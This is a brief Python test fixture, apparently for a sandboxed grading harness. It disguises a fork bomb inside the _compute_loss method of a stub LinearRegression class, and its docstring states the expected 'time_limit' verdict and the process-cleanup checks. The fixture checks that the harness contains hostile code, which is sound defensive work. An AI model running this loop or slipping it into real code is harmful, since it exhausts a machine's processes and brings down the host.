"""Fork bomb in _compute_loss (every process forks forever, ignoring failures). Verdict: time_limit.

The pid limit stops the growth; the probe's time budget stops the bomb, and the harness's
kill of everything but itself after the group must leave no process behind.
"""

import numpy as np

os = __import__("os")


class LinearRegression:
    def __init__(self, learning_rate=0.01, n_iterations=1000, tol=1e-6):
        pass

    def fit(self, X, y):
        raise NotImplementedError

    def predict(self, X):
        raise NotImplementedError

    def _compute_loss(self, predictions, y):
        while True:
            try:
                os.fork()
            except OSError:
                pass

    def _compute_gradients(self, X, y, predictions):
        raise NotImplementedError
